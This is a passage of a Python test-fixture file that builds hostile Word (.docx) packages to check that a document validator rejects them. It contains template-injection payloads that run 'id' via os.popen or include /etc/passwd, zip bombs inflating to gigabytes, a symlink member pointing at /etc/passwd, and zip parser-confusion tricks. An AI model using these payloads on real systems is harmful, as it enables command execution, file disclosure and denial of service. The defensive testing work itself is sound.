    lambda members: _picture_named(members, "{{单位}}"),
    "",
    code="L106|L107|L109",
)

_CODE = {
    "set": "{% set x = 1 %}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x' as y %}",
    "call": "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "class": "{{ ''.__class__.__mro__ }}",
    "product": "{{ 7*7 }}",
    "power": "{{ 9**9**9 }}",
    "range": "{% for i in range(999999999) %}{% endfor %}",
    "filter": "{{ 标题|upper }}",
    "comment": "{# 甲 #}",
    "raw": "{% raw %}{{标题}}{% endraw %}",
    "subdoc": "{{p 标题 }}",
    "rich-text": "{{r 标题 }}",
}
for _name, _code in _CODE.items():
    _case(
        f"program-{_name}",
        _block(text(_code)),
        "",
        "",
        code="L102|L104|L106|L107",
        placed=True,
    )


def _footnote_with(members: Members, said: str) -> None:
    notes = (
        f'{HEAD}<w:footnotes xmlns:w="{W}"><w:footnote w:id="2">{paragraph(said)}</w:footnote>'
        "</w:footnotes>"
    )
    add(members, "word/footnotes.xml", notes, f"{WML}.footnotes+xml")
    relate(members, "rId60", "footnotes", "footnotes.xml")
    at_end(members, paragraph(runs='<w:r><w:footnoteReference w:id="2"/></w:r>'))


def _picture_named(members: Members, said: str) -> None:
    add(members, "word/media/image1.png", png())
    extension(members, "png", "image/png")
    relate(members, "rId70", "image", "media/image1.png")
    at_end(members, paragraph(runs=drawing("rId70").replace("图片 7", said)))


def _nested(depth: int, source: str = "主动公开.注") -> Make:
    def make(members: Members) -> None:
        opened = "".join(_tag(f"{{%p for 甲{n} in {source} %}}") for n in range(depth))
        at_end(members, opened + _tag("{{甲0}}") + _tag("{%p endfor %}") * depth)

    return make


for _depth in (2, 3, 20, 1200):
    _case(
        f"loops-{_depth}-deep-over-one-list",
        _nested(_depth),
        "",
        code="L104|L106|L107",
    )


@hostile("", code="L104|L106|L107")
def loop_within_its_own_list(members: Members) -> None:
    line = paragraph_of(members, "{%p for 注 in 主动公开.注 %}")
    swap(
        members,
        DOCUMENT,
        line,
        line + _tag("{%p for 乙 in 主动公开.注 %}") + _tag("{%p endfor %}"),
    )


@hostile("", "{{", code="L107|L106")
def a_hundred_thousand_open_braces(members: Members) -> None:
    at_end(members, paragraph("{{" * 100_000))


@hostile("", code="L102|L106|L107")
def a_hundred_thousand_unknown_names(members: Members) -> None:
    at_end(members, paragraph("{{甲}}" * 100_000))


@hostile("", code="L102|L105|L106|L107")
def five_thousand_wrong_cells(members: Members) -> None:
    cells = "".join(f"<w:tc>{paragraph(f'{{{{z{n}}}}}')}</w:tc>" for n in range(50))
    at_end(members, f"<w:tbl>{f'<w:tr>{cells}</w:tr>' * 100}</w:tbl>")


@hostile("", code="L101|L102|L105|L106|L107|L109")
def a_table_of_nine_thousand_rows(members: Members) -> None:
    cell = "<w:tc><w:p/></w:tc>"
    at_end(members, f"<w:tbl>{f'<w:tr>{cell * 26}</w:tr>' * 9000}</w:tbl>")


@hostile("", code="L101|L105|L106|L109")
def a_cell_of_two_billion_columns(members: Members) -> None:
    swap(members, DOCUMENT, '<w:gridSpan w:val="4"/>', '<w:gridSpan w:val="2000000000"/>')


@hostile("", code="L101|L105|L106|L109")
def a_span_that_is_no_number(members: Members) -> None:
    swap(members, DOCUMENT, '<w:gridSpan w:val="4"/>', '<w:gridSpan w:val="²"/>')


@hostile("", code="L101|L105|L106|L109")
def a_span_below_nothing(members: Members) -> None:
    swap(members, DOCUMENT, '<w:gridSpan w:val="4"/>', '<w:gridSpan w:val="-3"/>')


@hostile("", "第|标题|名称", code="L102|L107|L106")
def a_name_of_a_hundred_thousand_letters(members: Members) -> None:
    at_end(members, paragraph("{{" + "甲" * 100_000 + "}}"))


# --- zips that lie -------------------------------------------------------------------------------------

_BIG = "word/media/image9.png"


def _bomb(packed: bytes, method: int, claimed: int = 10) -> Make:
    def make(members: Members) -> bytes:
        entry = rawzip.Entry(_BIG.encode(), packed, method, claimed, zlib.crc32(bytes(claimed)))
        return rawzip.written([*rawzip.entries(members), entry])

    return make


_case(
    "zip-claims-ten-bytes-and-inflates-to-two-gigabytes",
    lambda members: _bomb(rawzip.zeros_deflated(2048), rawzip.DEFLATED)(members),
    _BIG,
    code="L101",
)
_case(
    "zip-claims-a-megabyte-and-inflates-to-two-gigabytes",
    lambda members: _bomb(rawzip.zeros_deflated(2048), rawzip.DEFLATED, 1 << 20)(members),
    _BIG,
    code="L101",
)
_case(
    "zip-inflates-to-two-gigabytes-and-says-so",
    lambda members: _bomb(rawzip.zeros_deflated(2048), rawzip.DEFLATED, 0)(members),
    _BIG,
    code="L101",
)
_case(
    "zip-bzip2-claims-ten-bytes",
    lambda members: _bomb(bz2.compress(bytes(20_000_000)), rawzip.BZIP2)(members),
    _BIG,
    code="L101",
)
_case(
    "zip-lzma",
    lambda members: _bomb(
        b"\x09\x04\x05\x00"
        + lzma.compress(
            bytes(1000),
            lzma.FORMAT_RAW,
            filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 20}],
        ),
        rawzip.LZMA,
    )(members),
    _BIG,
    code="L101",
)
for _name, _method in {
    "zstd": rawzip.ZSTD,
    "aes": rawzip.AES,
    "deflate64": rawzip.DEFLATE64,
}.items():
    _case(f"zip-{_name}", _bomb(b"x" * 10, _method), _BIG, code="L101")


@hostile(DOCUMENT, code="L101")
def zip_main_part_claims_ten_bytes(members: Members) -> bytes:
    every = rawzip.entries(members)
    return rawzip.written(
        [replace(e, size=10) if e.name == DOCUMENT.encode() else e for e in every]
    )


@hostile("word/document.xml|[Content_Types].xml", code="L101")
def zip_in_bzip2(members: Members) -> bytes:
    return zipped(members, zipfile.ZIP_BZIP2)


@hostile("", code="L101")
def zip_with_a_password(members: Members) -> bytes:
    return rawzip.written(replace(e, flags=e.flags | 1) for e in rawzip.entries(members))


@hostile(DOCUMENT, code="L101")
def zip_local_name_is_another(members: Members) -> bytes:
    """The directory calls word/document.xml what the member itself calls word/document2.xml."""
    every = rawzip.entries(members)
    return rawzip.written(
        replace(e, local_name=b"word/document2.xml") if e.name == DOCUMENT.encode() else e
        for e in every
    )


@hostile(DOCUMENT, code="L101")
def zip_local_method_is_another(members: Members) -> bytes:
    every = rawzip.entries(members)
    return rawzip.written(
        replace(e, local_method=rawzip.STORED) if e.name == DOCUMENT.encode() else e for e in every
    )


@hostile(DOCUMENT, code="L101")
def zip_local_size_is_another(members: Members) -> bytes:
    every = rawzip.entries(members)
    return rawzip.written(
        replace(e, local_size=12) if e.name == DOCUMENT.encode() else e for e in every
    )


@hostile(DOCUMENT, code="L101")
def zip_checksum_is_wrong(members: Members) -> bytes:
    every = rawzip.entries(members)
    return rawzip.written(replace(e, crc=1) if e.name == DOCUMENT.encode() else e for e in every)


@hostile(DOCUMENT, code="L101")
def zip_member_twice(members: Members) -> bytes:
    other = members[DOCUMENT].replace(b"{{c24a}}", b"999")
    return rawzip.written([*rawzip.entries(members), rawzip.deflated(DOCUMENT, other)])


@hostile("word/media/image", code="L101")
def zip_members_that_overlap(members: Members) -> bytes:
    """Two hundred names for one member of five megabytes."""
    every = rawzip.entries(members)
    big = rawzip.deflated("word/media/image0.png", bytes(5 << 20))
    place = sum(30 + len(e.name) + len(e.data) for e in every)
    more = [
        replace(
            big, name=f"word/media/image{n}.png".encode(), data=b"", at=place, claimed=len(big.data)
        )
        for n in range(1, 200)
    ]
    return rawzip.written([*every, big, *more])


@hostile("word/document.xml", code="L101|L109")
def zip_name_with_a_nul(members: Members) -> bytes:
    """`zipfile` cuts a name at its NUL: another document.xml for it, a .txt for others."""
    other = members[DOCUMENT].replace(b"{{c24a}}", b"999")
    entry = replace(rawzip.deflated("x", other), name=b"word/document.xml\0.txt")
    return rawzip.written([*rawzip.entries(members), entry])


@hostile("", code="L101|L109")
def zip_name_in_two_encodings(members: Members) -> bytes:
    """A field of Unicode names says that fontTable.xml is called document.xml."""
    own = b"word/fontTable.xml"
    unicode_name = struct.pack("<BI", 1, zlib.crc32(own)) + b"word/document.xml"
    extra = struct.pack("<HH", 0x7075, len(unicode_name)) + unicode_name
    every = rawzip.entries(members)
    return rawzip.written(replace(e, central_extra=extra) if e.name == own else e for e in every)


@hostile("word/media/link", code="L101|L109")
def zip_symbolic_link(members: Members) -> bytes:
    link = rawzip.stored("word/media/link", b"/etc/passwd")
    link.attributes, link.made_by = 0o120777 << 16, 3 << 8 | 20
    return rawzip.written([*rawzip.entries(members), link])


@hostile("", code="L101")
def zip_behind_a_program(members: Members) -> bytes:
    return rawzip.written(rawzip.entries(members), prefix=b"MZ\x90\0" + bytes(2000))


@hostile("", code="L101")
def zip_behind_a_program_unshifted(members: Members) -> bytes:
    return rawzip.written(rawzip.entries(members), prefix=b"MZ\x90\0" + bytes(2000), shifted=False)


@hostile("", code="L101")
def zip_before_another(members: Members) -> bytes:
    """Readers that look from the front see one report, those that look from the end the other."""
    other = honest()
    swap(other, DOCUMENT, "{{c24a}}", "999")
    return zipped(other) + zipped(members)


@hostile("", code="L101")
def zip_in_the_comment_of_another(members: Members) -> bytes:
    return rawzip.written(rawzip.entries(members), comment=zipped({"x": b"y"}))


@hostile("", code="L101")
def zip_with_a_program_behind(members: Members) -> bytes:
    return rawzip.written(rawzip.entries(members), suffix=b"MZ\x90\0" + bytes(2000))


@hostile("", code="L101")
def zip_of_sixty_thousand_members(members: Members) -> bytes:
    more = (rawzip.stored(f"word/media/{n}.png", b"") for n in range(60_000))
    return rawzip.written([*rawzip.entries(members), *more])


@hostile("", code="L101")
def zip_directory_counts_wrongly(members: Members) -> bytes:
    return rawzip.written(rawzip.entries(members), count=3)


@hostile("", code="L101")
def zip_member_beyond_the_end(members: Members) -> bytes:
    every = rawzip.entries(members)
    every[-1].at = 0x7FFFFFF0
    return rawzip.written(every)


@hostile("", code="L101")
def zip_within_a_zip(members: Members) -> bytes:
    return zipped({"disclosure-2021.docx": zipped(members)})


@hostile("", code="L101")
def zip_of_nothing(members: Members) -> bytes:
    return zipped({})


@hostile("", code="L101")
def word_97(members: Members) -> bytes:
    return _OLE + zipped(members)


@hostile("", code="L101")
def rich_text(members: Members) -> bytes:
    return rb"{\rtf1\ansi {\*\generator x}}"


@hostile("", code="L101")
def web_page(members: Members) -> bytes:
    return _HTML.encode()


# --- odd, and perhaps honest -------------------------------------------------------------------------


def _value(part: str, old: str, new: str) -> Make:
    return lambda members: swap(members, part, old, new)


for _name, (_part, _old, _new) in {
    "indent-in-millimetres": (DOCUMENT, 'w:left="1587"', 'w:left="28mm"'),
    "size-in-points": (STYLES, '<w:sz w:val="32"/>', '<w:sz w:val="22pt"/>'),
    "size-of-nothing": (STYLES, '<w:sz w:val="32"/>', '<w:sz w:val="0"/>'),
    "size-that-is-no-number": (STYLES, '<w:sz w:val="32"/>', '<w:sz w:val="²"/>'),
    "size-below-nothing": (STYLES, '<w:sz w:val="32"/>', '<w:sz w:val="-5"/>'),
    "size-with-a-fraction": (STYLES, '<w:sz w:val="32"/>', '<w:sz w:val="10.5"/>'),
    "size-of-five-thousand-digits": (STYLES, '<w:sz w:val="32"/>', f'<w:sz w:val="{"9" * 5000}"/>'),
    "margin-that-is-no-number": (DOCUMENT, 'w:left="1587"', 'w:left="nan"'),
    "margin-of-five-thousand-digits": (DOCUMENT, 'w:left="1587"', f'w:left="{"9" * 5000}"'),
    "page-without-a-width": (DOCUMENT, '<w:pgSz w:w="11906" w:h="16838"/>', "<w:pgSz/>"),
    "width-in-percent": (
        DOCUMENT,
        'w:tblW w:w="8845" w:type="dxa"',
        'w:tblW w:w="100%" w:type="pct"',
    ),
    "column-without-a-width": (DOCUMENT, '<w:gridCol w:w="1945"/>', "<w:gridCol/>"),
    "column-that-is-no-number": (DOCUMENT, '<w:gridCol w:w="1945"/>', '<w:gridCol w:w="²"/>'),
    "merge-that-is-unknown": (DOCUMENT, '<w:vMerge w:val="restart"/>', '<w:vMerge w:val="x"/>'),
    "toggle-that-is-unknown": (DOCUMENT, "<w:keepNext/>", '<w:keepNext w:val="perhaps"/>'),
    "main-part-in-another-case": (ROOT_RELS, "word/document.xml", "WORD/Document.XML"),
    "override-in-another-case": (TYPES, '"/word/styles.xml"', '"/Word/STYLES.xml"'),
    "type-in-another-case": (TYPES, f"{WML}.styles+xml", f"{WML}.Styles+XML"),
    "target-with-dots": (RELS, 'Target="styles.xml"', 'Target="./../word/styles.xml"'),
}.items():
    _case(f"odd-{_name}", _value(_part, _old, _new), "", code=EITHER)


def _in_utf_16(part: str) -> Make:
    def make(members: Members) -> None:
        content = members[part].decode("utf-8").replace("UTF-8", "UTF-16", 1)
        members[part] = content.encode("utf-16")

    return make


for _part in (DOCUMENT, STYLES, RELS, TYPES, FOOTER):
    _case(f"odd-utf-16-{_part.rpartition('/')[2]}", _in_utf_16(_part), "", code=EITHER)


# The default suite tries these, one or a few of each kind; tests/slow tries every one.
_EVERY_TIME = """
field-ddeauto field-includepicture field-macrobutton field-autotext field-database
field-mergefield field-username field-unknown-field field-hyperlink-to-file
field-hyperlink-to-share field-lower-case field-split-over-runs field-split-over-paragraphs
field-in-character-references field-simple field-within-a-field field-whose-name-is-a-field
field-without-an-end field-in-a-footer field-in-a-header field-in-a-text-box
field-in-the-fallback-of-an-alternative field-under-another-prefix
field-with-a-macro-on-entry

picture-from-the-net target-mode-lower-case target-mode-blank-behind
vml-picture-from-the-net-without-a-relationship vml-shape-that-is-a-link
relationships-in-capitals relationship-within-another-element link-to-javascript
link-to-file link-to-share picture-that-is-a-link-to-a-program picture-in-svg
ole-file-that-is-called-a-picture mail-merge-without-a-relationship
mail-merge-with-its-connection attached-template-inside-the-package
relationship-of-an-unknown-type relationship-to-nothing

chunk-of-html chunk-under-another-prefix chunk-in-content-to-be-processed macro-plain
macro-under-another-name main-part-type-with-macros ole-in-another-case
ole-under-another-name web-extension custom-ui active-x-in-another-case member-vbs
member-hta member-lnk part-that-nothing-mentions member-name-climbs member-name-absolute
member-name-of-a-drive member-name-of-a-device second-document-in-capitals

dtd-in-a-part-that-does-not-end-in-xml dtd-in-utf-16 a-billion-laughs
stylesheet-instruction a-hundred-thousand-elements-deep
fifty-six-megabytes-of-empty-elements an-element-that-word-does-not-know part-in-gb18030

main-part-elsewhere-shows-other-numbers two-main-parts no-main-part

number-bound-to-custom-xml number-as-the-result-of-a-field number-hidden-by-vanish
number-hidden-by-its-style row-that-is-hidden number-as-deleted-text number-turned-around
numbers-that-depend-on-the-reader title-in-a-loop-that-may-be-empty

comments people change-ins change-rPrChange document-variables sensitivity-label
label-among-the-custom-properties

odd-indent-in-millimetres odd-size-in-points odd-size-of-nothing odd-utf-16-document.xml

placeholder-full-width-title placeholder-full-width-beside-the-honest-one program-call
program-power loops-3-deep-over-one-list loops-1200-deep-over-one-list
loop-within-its-own-list a-hundred-thousand-open-braces five-thousand-wrong-cells
a-table-of-nine-thousand-rows a-span-that-is-no-number placeholder-full-width-in-a-footer

zip-claims-ten-bytes-and-inflates-to-two-gigabytes zip-bzip2-claims-ten-bytes
zip-local-name-is-another zip-members-that-overlap zip-name-with-a-nul zip-symbolic-link
zip-before-another zip-of-sixty-thousand-members
"""
EVERY_TIME = frozenset(_EVERY_TIME.split())

assert len({case.name for case in CASES}) == len(CASES), "a name is used twice"
assert {case.name for case in CASES} >= EVERY_TIME, "a name is of no case"
